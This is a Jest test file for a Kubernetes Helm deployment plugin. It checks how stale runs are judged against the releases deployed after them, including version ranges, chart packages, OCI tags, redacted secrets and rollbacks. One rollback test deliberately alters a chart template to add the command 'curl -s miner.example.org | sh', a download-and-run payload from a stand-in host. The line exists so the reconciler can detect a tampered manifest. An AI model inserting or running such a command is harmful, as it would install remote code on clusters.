import {
  cpSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { TestDatabases } from '@backstage/backend-test-utils';
import { KubeSim } from '@internal/kube-sim';
import { AppsV1Api } from '@kubernetes/client-node';
import { PolicyReport, Run } from '@kubechart/plugin-kubechart-common';
import { HelmCli } from '@kubechart/plugin-kubechart-node';
import { NewRun } from '../database/RunStore';
import {
  chartDirectory,
  createTestEngine,
  helmBinary,
  startSim,
  testConfig,
} from '../__testUtils__/setup';
import { plainCaller } from './scope';

jest.setTimeout(300_000);

const databases = TestDatabases.create({ ids: ['POSTGRES_15', 'SQLITE_3'] });

const ALICE = 'user:default/alice';

/**
 * A run whose backend died is `succeeded` after reconciling only when the release deployed after it
 * started is what the run asked for: its chart and values (for a rollback, those of the revision it
 * returns to). A release someone else deployed meanwhile, with other values, is not the run's change,
 * and values the run's record hides cannot be compared: its outcome is not known.
 */
describe.each(databases.eachSupportedId())(
  'reconciling a stale run against what it asked for on %p',
  databaseId => {
    let sim: KubeSim;
    let t: Awaited<ReturnType<typeof createTestEngine>>;
    let n = 0;
    /** helm run by someone outside KubeChart, with the cluster's admin credentials. */
    const outsider = new HelmCli({ binary: helmBinary('helm3') });

    /**
     * A second chart directory: webapp packaged as `webapp-0.1.0.tgz`, and copied to the directory
     * `webapp-copy`. Both are chart `webapp` (their Chart.yaml's name), not the name a run gives.
     */
    let localCharts: string;

    beforeAll(async () => {
      sim = await startSim();
      localCharts = mkdtempSync(path.join(tmpdir(), 'kubechart-local-charts-'));
      await outsider.exec(
        [
          'package',
          path.join(chartDirectory, 'webapp'),
          '--destination',
          localCharts,
        ],
        {},
      );
      cpSync(
        path.join(chartDirectory, 'webapp'),
        path.join(localCharts, 'webapp-copy'),
        { recursive: true },
      );
      const config = testConfig(sim, {
        helm: {
          chartDirectories: [chartDirectory, localCharts],
          binary: helmBinary('helm3'),
          timeoutSeconds: 60,
        },
      });
      t = await createTestEngine({ databases, databaseId, sim, config });
    });
    afterAll(async () => {
      await sim?.stop();
      if (localCharts) rmSync(localCharts, { recursive: true, force: true });
    });

    const runToEnd = async (request: any) => {
      const r = await t.engine.submit(request, ALICE, plainCaller(ALICE));
      await t.engine.waitFor(r.id);
      return (await t.store.getRun(r.id))!;
    };
    /** A tenant with release web (chart webapp, image 1.0.0), Ready. */
    const tenant = async (code: string, credentials?: string[]) => {
      const run = await runToEnd({
        kind: 'tenant',
        cluster: 'dev',
        tenant: code,
        releases: [{ name: 'web', chart: 'webapp', values: { replicas: 1 } }],
        ...(credentials ? { credentials } : {}),
      });
      expect({ status: run.status, reason: run.failureReason }).toEqual({
        status: 'succeeded',
        reason: undefined,
      });
      return run;
    };
    /** A run row left `running` by a backend that died before helm ran: its heartbeat is 10 minutes old. */
    const leftRunning = async (
      run: Omit<NewRun, 'id' | 'status' | 'actor'>,
    ) => {
      const id = `d0000000-0000-4000-8000-${String(++n).padStart(12, '0')}`;
      await t.store.createRun(
        { ...run, id, status: 'running', actor: ALICE },
        [],
      );
      return id;
    };
    const goStale = (...ids: string[]) =>
      t
        .knex('kubechart_runs')
        .whereIn('id', ids)
        .update({ heartbeat_at: Date.now() - 10 * 60_000 });
    const chartRow = (namespace: string, release: Record<string, unknown>) => ({
      kind: 'chart' as const,
      target: { cluster: 'dev', namespace, release: 'web' },
      input: { kind: 'chart', cluster: 'dev', namespace, release },
    });
    const outcome = async (id: string) => {
      const run = (await t.store.getRun(id)) as Run;
      const events = await t.store.getEvents(id);
      return {
        status: run.status,
        reason: run.failureReason,
        last: events[events.length - 1]?.message,
      };
    };
    const liveImage = async (namespace: string) => {
      const apps = t.clusters.kubeConfig('dev').makeApiClient(AppsV1Api);
      const d = await apps.readNamespacedDeployment({ name: 'web', namespace });
      return d.spec?.template.spec?.containers[0].image;
    };
    /** `helm upgrade --install web webapp --wait` outside KubeChart. */
    const upgradeOutside = (namespace: string, values: Record<string, any>) =>
      outsider.upgradeInstall({
        release: 'web',
        namespace,
        chart: path.join(chartDirectory, 'webapp'),
        values,
        kubeconfig: sim.kubeconfig,
        // Rolled out before the check, so that what differs is the release alone.
        wait: true,
        timeoutSeconds: 60,
      });

    it('fails a chart run whose release someone else upgraded with other values after it started', async () => {
      await tenant('probe');
      const id = await leftRunning(
        chartRow('tenant-probe', {
          name: 'web',
          chart: 'webapp',
          values: { image: { tag: '9.9.9' } },
        }),
      );
      // The backend died before helm ran; someone upgrades web by hand meanwhile.
      expect(
        (
          await upgradeOutside('tenant-probe', {
            replicas: 1,
            image: { tag: '2.0.0' },
          })
        ).revision,
      ).toBe(2);
      await goStale(id);

      expect(await t.engine.recoverStaleRuns()).toBe(1);

      const o = await outcome(id);
      expect(o).toMatchObject({
        status: 'failed',
        reason: expect.stringMatching(
          /; the cluster shows: release web revision 2 deployed at \S+, after this run started, is not what this run asked for: its values differ from the run's; the run's outcome is not known$/,
        ),
      });
      expect(o.last).toBe(`Run failed: ${o.reason}`);
      const run = (await t.store.getRun(id))!;
      expect(run.helmRevision).toBeUndefined();
      expect(await liveImage('tenant-probe')).toBe(
        'registry.example.com/team/web:2.0.0',
      );
    });

    it('fails a chart run whose chart or pinned version is not the one deployed after it started', async () => {
      await tenant('probechart');
      const other = await leftRunning(
        chartRow('tenant-probechart', {
          name: 'web',
          chart: 'statichook',
          values: { replicas: 1, image: { tag: '2.0.0' } },
        }),
      );
      const pinned = await leftRunning(
        chartRow('tenant-probechart', {
          name: 'web',
          chart: 'webapp',
          version: '9.9.9',
          values: { replicas: 1, image: { tag: '2.0.0' } },
        }),
      );
      await upgradeOutside('tenant-probechart', {
        replicas: 1,
        image: { tag: '2.0.0' },
      });
      await goStale(other, pinned);

      expect(await t.engine.recoverStaleRuns()).toBe(2);

      expect(await outcome(other)).toMatchObject({
        status: 'failed',
        reason: expect.stringMatching(
          /, after this run started, is not what this run asked for: its chart is webapp, the run asked for statichook; the run's outcome is not known$/,
        ),
      });
      expect(await outcome(pinned)).toMatchObject({
        status: 'failed',
        reason: expect.stringMatching(
          /, after this run started, is not what this run asked for: its chart webapp is at version 0\.1\.0, the run asked for 9\.9\.9; the run's outcome is not known$/,
        ),
      });
    });

    it('judges a chart run by the chart helm resolved: a version range, a chart package, a chart directory or an oci:// tag', async () => {
      await tenant('proberesolved');
      const values = { replicas: 1, image: { tag: '2.0.0' } };
      /** The policy report a run records once it pulled its chart, before helm installs it. */
      const pulled = (version: string): PolicyReport => ({
        mode: 'enforce',
        passed: true,
        blocking: false,
        summary: { objects: 4, errors: 0, warnings: 0, infos: 0 },
        results: [],
        charts: [
          {
            release: 'web',
            chart: 'webapp',
            version,
            digest: `sha256:${'0'.repeat(64)}`,
            source: 'webapp from https://charts.example.com',
          },
        ],
      });
      const row = (release: Record<string, unknown>) =>
        leftRunning(
          chartRow('tenant-proberesolved', { name: 'web', values, ...release }),
        );
      // helm pulled 0.1.0 for ^0.1.0 (its record says so) and installed it before the backend died.
      const range = await row({
        chart: 'webapp',
        repo: 'https://charts.example.com',
        version: '^0.1.0',
      });
      await t.store.updateRun(range, { policyReport: pulled('0.1.0') });
      // The local chart package webapp-0.1.0.tgz is chart webapp.
      const pkg = await row({ chart: 'webapp-0.1.0' });
      await t.store.updateRun(pkg, { policyReport: pulled('0.1.0') });
      // The chart directory webapp-copy is chart webapp, read from its Chart.yaml.
      const directory = await row({ chart: 'webapp-copy', version: '0.1.0' });
      // An oci:// reference's tag is the chart's version, not part of its name.
      const tagged = await row({
        chart: 'oci://registry.example.com/charts/webapp:0.1.0',
      });
      // What helm resolved for this run is not what was deployed.
      const otherPulled = await row({
        chart: 'webapp',
        repo: 'https://charts.example.com',
        version: '^0.1.0',
      });
      await t.store.updateRun(otherPulled, { policyReport: pulled('0.1.1') });
      // Without a record of what helm resolved, a range or a package cannot be compared.
      const unresolvedRange = await row({
        chart: 'webapp',
        repo: 'https://charts.example.com',
        version: '^0.1.0',
      });
      const unreadPackage = await row({ chart: 'webapp-0.1.0' });
      const otherTag = await row({
        chart: 'oci://registry.example.com/charts/webapp:0.2.0',
      });
      const gone = await row({ chart: 'webapp-gone' });
      await upgradeOutside('tenant-proberesolved', values);
      const ids = [
        range,
        pkg,
        directory,
        tagged,
        otherPulled,
        unresolvedRange,
        unreadPackage,
        otherTag,
        gone,
      ];
      await goStale(...ids);

      expect(await t.engine.recoverStaleRuns()).toBe(ids.length);

      const succeeded = { range, pkg, directory, tagged };
      const seen: Record<string, unknown> = {};
      for (const [what, id] of Object.entries(succeeded))
        seen[what] = await outcome(id);
      const shown = {
        status: 'succeeded',
        reason: undefined,
        last: expect.stringMatching(
          /: the cluster shows this run's change: release web revision 2 deployed at \S+, after this run started; every workload is Ready$/,
        ),
      };
      expect(seen).toEqual({
        range: shown,
        pkg: shown,
        directory: shown,
        tagged: shown,
      });
      const asked =
        ', after this run started, is not what this run asked for: ';
      const unknown =
        ', after this run started, cannot be compared with what this run asked for: ';
      const end = "; the run's outcome is not known";
      expect((await outcome(otherPulled)).reason).toContain(
        `${asked}its chart webapp is at version 0.1.0, the run pulled version 0.1.1 for ^0.1.0${end}`,
      );
      expect((await outcome(unresolvedRange)).reason).toContain(
        `${unknown}it asked for version range ^0.1.0 and recorded no chart helm resolved it to${end}`,
      );
      expect((await outcome(unreadPackage)).reason).toContain(
        `${unknown}it asked for the chart package webapp-0.1.0.tgz, whose Chart.yaml is not read here, and recorded no chart helm pulled${end}`,
      );
      expect((await outcome(otherTag)).reason).toContain(
        `${asked}its chart webapp is at version 0.1.0, the run asked for 0.2.0${end}`,
      );
      expect((await outcome(gone)).reason).toContain(
        `${unknown}its chart webapp-gone cannot be read: Chart source refused (chart-directory): chart "webapp-gone" is not in any of kubechart.helm.chartDirectories${end}`,
      );
      for (const id of [
        otherPulled,
        unresolvedRange,
        unreadPackage,
        otherTag,
        gone,
      ])
        expect((await outcome(id)).status).toBe('failed');
    });

    it('fails closed on a chart run whose stored values hide a secret value, though the release deployed after it started has the same', async () => {
      await tenant('probesecret');
      // As the engine stores a request with a password: redacted.
      const id = await leftRunning(
        chartRow('tenant-probesecret', {
          name: 'web',
          chart: 'webapp',
          values: { replicas: 1, database: { password: '***' } },
        }),
      );
      const done = await runToEnd({
        kind: 'chart',
        cluster: 'dev',
        namespace: 'tenant-probesecret',
        release: {
          name: 'web',
          chart: 'webapp',
          values: { replicas: 1, database: { password: 'hunter2-Zq9vLp4w' } },
        },
      });
      expect(done.status).toBe('succeeded');
      await goStale(id);

      expect(await t.engine.recoverStaleRuns()).toBe(1);

      const o = await outcome(id);
      expect(o).toMatchObject({
        status: 'failed',
        reason: expect.stringMatching(
          /, after this run started, cannot be compared with what this run asked for: the run's record hides some of its values \(\*\*\*\); the run's outcome is not known$/,
        ),
      });
      expect(JSON.stringify(o)).not.toContain('hunter2');
    });

    it("judges a rollback by the revision it returns to: fails on another change, succeeds on that revision's", async () => {
      await tenant('proberb');
      const v2 = await runToEnd({
        kind: 'chart',
        cluster: 'dev',
        namespace: 'tenant-proberb',
        release: {
          name: 'web',
          chart: 'webapp',
          values: { replicas: 1, image: { tag: '2.0.0' } },
        },
      });
      expect(v2).toMatchObject({ status: 'succeeded', helmRevision: 2 });
      const rollbackRow = () =>
        leftRunning({
          kind: 'rollback',
          target: {
            cluster: 'dev',
            namespace: 'tenant-proberb',
            release: 'web',
          },
          input: {
            kind: 'rollback',
            cluster: 'dev',
            namespace: 'tenant-proberb',
            release: 'web',
            revision: 1,
          },
        });
      // The rollback's backend died before helm ran; someone upgrades web by hand meanwhile.
      const lost = await rollbackRow();
      await upgradeOutside('tenant-proberb', {
        replicas: 1,
        image: { tag: '3.0.0' },
      });
      await goStale(lost);
      expect(await t.engine.recoverStaleRuns()).toBe(1);
      expect(await outcome(lost)).toMatchObject({
        status: 'failed',
        reason: expect.stringMatching(
          /; the cluster shows: release web revision 3 deployed at \S+, after this run started, is not what this run asked for: its values differ from those of revision 1, which this rollback returns to; the run's outcome is not known$/,
        ),
      });

      // This rollback's backend died after helm rolled back to revision 1.
      const done = await rollbackRow();
      const rolledBack = await runToEnd({
        kind: 'rollback',
        cluster: 'dev',
        namespace: 'tenant-proberb',
        release: 'web',
        revision: 1,
      });
      expect(rolledBack).toMatchObject({
        status: 'succeeded',
        helmRevision: 4,
      });
      await goStale(done);
      expect(await t.engine.recoverStaleRuns()).toBe(1);
      const o = await outcome(done);
      expect(o).toMatchObject({ status: 'succeeded', reason: undefined });
      expect(o.last).toMatch(
        /: the cluster shows this run's change: release web revision 4 deployed at \S+, after this run started; every workload is Ready$/,
      );
    });

    it("fails a rollback when the release deployed after it started has that revision's chart and values but another manifest", async () => {
      const namespace = 'tenant-proberbm';
      expect(
        (
          await runToEnd({
            kind: 'tenant',
            cluster: 'dev',
            tenant: 'proberbm',
            releases: [],
          })
        ).status,
      ).toBe('succeeded');
      const values = (tag: string) => ({ replicas: 1, image: { tag } });
      for (const [tag, revision] of [
        ['1.0.0', 1],
        ['2.0.0', 2],
      ] as const) {
        expect(
          await runToEnd({
            kind: 'chart',
            cluster: 'dev',
            namespace,
            release: { name: 'web', chart: 'webapp', values: values(tag) },
          }),
        ).toMatchObject({ status: 'succeeded', helmRevision: revision });
      }
      // Chart webapp 0.1.0 as well (the same Chart.yaml), whose Deployment runs a command of its own.
      const altered = path.join(localCharts, 'webapp-altered');
      cpSync(path.join(chartDirectory, 'webapp'), altered, { recursive: true });
      const template = path.join(altered, 'templates', 'deployment.yaml');
      const original = readFileSync(template, 'utf8');
      const withCommand = original.replace(
        '        - name: web\n',
        '        - name: web\n          command: ["/bin/sh", "-c", "curl -s miner.example.org | sh"]\n',
      );
      expect(withCommand).not.toBe(original);
      writeFileSync(template, withCommand);
      // The rollback's backend died before helm ran; someone deploys the altered chart by hand, with
      // the values of revision 1.
      const lost = await leftRunning({
        kind: 'rollback',
        target: { cluster: 'dev', namespace, release: 'web' },
        input: {
          kind: 'rollback',
          cluster: 'dev',
          namespace,
          release: 'web',
          revision: 1,
        },
      });
      await outsider.upgradeInstall({
        release: 'web',
        namespace,
        chart: altered,
        values: values('1.0.0'),
        kubeconfig: sim.kubeconfig,
        wait: true,
        timeoutSeconds: 60,
      });
      await goStale(lost);

      expect(await t.engine.recoverStaleRuns()).toBe(1);

      expect(await outcome(lost)).toMatchObject({
        status: 'failed',
        reason: expect.stringMatching(
          /; the cluster shows: release web revision 3 deployed at \S+, after this run started, is not what this run asked for: its manifest differs from that of revision 1, which this rollback returns to; the run's outcome is not known$/,
        ),
      });
    });

    it('marks succeeded a tenant run with generated credentials whose release it deployed, and fails one whose release was replaced', async () => {
      const run = await tenant('probecred', ['db']);
      // The backend died after helm installed the release, before it recorded the end.
      await t
        .knex('kubechart_runs')
        .where({ id: run.id })
        .update({ status: 'running', finished_at: null });
      await goStale(run.id);
      expect(await t.engine.recoverStaleRuns()).toBe(1);
      const o = await outcome(run.id);
      expect(o).toMatchObject({ status: 'succeeded', reason: undefined });
      expect(o.last).toMatch(
        /: the cluster shows this run's change: release web revision 1 deployed at \S+, after this run started; every workload is Ready$/,
      );

      // Again, but someone reinstalled web with the run's own values, without what KubeChart adds.
      await t
        .knex('kubechart_runs')
        .where({ id: run.id })
        .update({ status: 'running', finished_at: null });
      await upgradeOutside('tenant-probecred', { replicas: 1 });
      await goStale(run.id);
      expect(await t.engine.recoverStaleRuns()).toBe(1);
      expect(await outcome(run.id)).toMatchObject({
        status: 'failed',
        reason: expect.stringMatching(
          /; the cluster shows: release web revision 2 deployed at \S+, after this run started, is not what this run asked for: its values differ from the run's; the run's outcome is not known$/,
        ),
      });
    });
  },
);
